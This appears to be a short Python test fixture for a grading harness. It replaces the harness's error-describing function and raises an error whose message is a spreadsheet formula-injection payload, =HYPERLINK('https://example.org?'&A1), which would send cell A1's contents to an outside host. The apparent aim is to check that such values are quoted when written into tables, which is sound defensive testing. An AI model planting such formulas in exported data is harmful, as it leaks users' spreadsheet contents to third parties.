"""Raises an error without a type that begins like a formula of a spreadsheet, with a link that carries a cell away.

must: in the data it stands as it is, and whoever writes a table of it quotes it
earns: nothing
shows: =HYPERLINK(
"""
# %%
import sys

sys.modules["box.harness"].describe = lambda error: {"type": "", "message": str(error), "cell": None, "line": None}
MESSAGE = "=HYPERLINK('https://example.org?'&A1)"


def gradf(a, b, c):
    raise ValueError(MESSAGE)
